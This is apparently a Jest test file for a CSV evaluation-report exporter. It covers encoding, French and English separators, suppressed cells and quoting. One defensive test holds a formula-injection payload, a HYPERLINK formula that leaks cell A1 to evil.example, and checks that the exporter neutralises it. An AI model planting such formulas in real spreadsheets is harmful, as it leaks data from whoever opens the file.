import { csvConvention, parseCsv } from '@backend/common/csv-convention';
import { renderEvaluationCsv } from './evaluation-csv';
import { evaluationInput, evaluationSnapshot, indicatorSnapshot } from './report-input.factory';

const fr = csvConvention('fr');

function records(csv: Buffer, convention = fr): Record<string, string>[] {
  const [header, ...rows] = parseCsv(csv.toString('utf8'), convention);
  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
}

describe(renderEvaluationCsv.name, () => {
  it('is UTF-8 with a BOM and CRLF line ends, every record as wide as the header', () => {
    // Arrange / Act
    const csv = renderEvaluationCsv(evaluationInput());
    // Assert
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = csv.toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/\n/);
    const rows = parseCsv(text, fr);
    expect(rows[0].slice(0, 4)).toEqual(['Section', 'Orientation', 'Code objectif', 'Objectif']);
    for (const r of rows) expect(r).toHaveLength(rows[0].length);
  });

  it('holds the same figures as the workbook: indicators, series, breakdowns, assessments', () => {
    // Arrange / Act
    const rows = records(renderEvaluationCsv(evaluationInput()));
    // Assert
    const by = (section: string) => rows.filter((r) => r.Section === section);
    expect(by('Indicateur')).toHaveLength(3);
    expect(by('Série')).toHaveLength(4);
    expect(by('Ventilation')).toHaveLength(12);
    expect(by('Appréciation')).toHaveLength(2);
    expect(by('Indicateur')[0]).toMatchObject({
      Indicateur: 'Nombre de participants à la Journée de Bienvenue',
      'Valeur à la date de coupure': '325',
      'Cible finale': '550',
    });
    expect(by('Série')[3]).toMatchObject({ Période: '2022', Valeur: '50', 'Valeur cumulée': '43,33', 'n cumulé': '180' });
  });

  it('writes suppressed cells « supprimé », never 0', () => {
    // Arrange / Act
    const rows = records(renderEvaluationCsv(evaluationInput())).filter(
      (r) => r.Section === 'Ventilation' && r.Catégorie === 'Personne non binaire',
    );
    // Assert
    expect(rows).toHaveLength(2);
    for (const r of rows) expect([r.Valeur, r.n]).toEqual(['supprimé', 'supprimé']);
  });

  it('quotes what needs quoting, and never lets a cell start a formula', () => {
    // Arrange
    const name = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")';
    const snapshot = evaluationSnapshot();
    snapshot.orientations[0].objectives[0].indicators = [indicatorSnapshot({ name })];
    const input = evaluationInput({
      snapshot,
      assessments: [
        {
          objectiveId: '00000000-0000-4000-8000-000000000021',
          rating: 'at_risk',
          comment: 'Deux lignes,\r\n« citées »',
          recommendations: '\tTAB',
        },
      ],
    });
    // Act
    const csv = renderEvaluationCsv(input);
    const rows = records(csv);
    // Assert
    expect(rows[0].Indicateur).toBe(`'${name}`);
    expect(csv.toString('utf8')).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Cliquez ici"")"`);
    const assessment = rows.find((r) => r.Section === 'Appréciation' && r['Code objectif'] === '3.1');
    expect(assessment).toMatchObject({ Commentaire: 'Deux lignes,\r\n« citées »', Recommandations: "'\tTAB" });
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('is written for its reader: « ; » and decimal commas in French, « , » and points in English', () => {
    // Arrange
    const en = csvConvention('en');
    // Act
    const french = renderEvaluationCsv(evaluationInput());
    const english = renderEvaluationCsv(evaluationInput({ language: 'en' }));
    // Assert
    expect(french.toString('utf8').split('\r\n')[0]).toMatch(/^\ufeffSection;Orientation;Code objectif;Objectif;/);
    expect(english.toString('utf8').split('\r\n')[0]).toMatch(/^\ufeffSection,Orientation,Objective code,Objective,/);
    const series = records(english, en).filter((r) => r.Section === 'Series');
    expect(series[3]).toMatchObject({ Period: '2022', Value: '50', 'Cumulative value': '43.33' });
  });
});
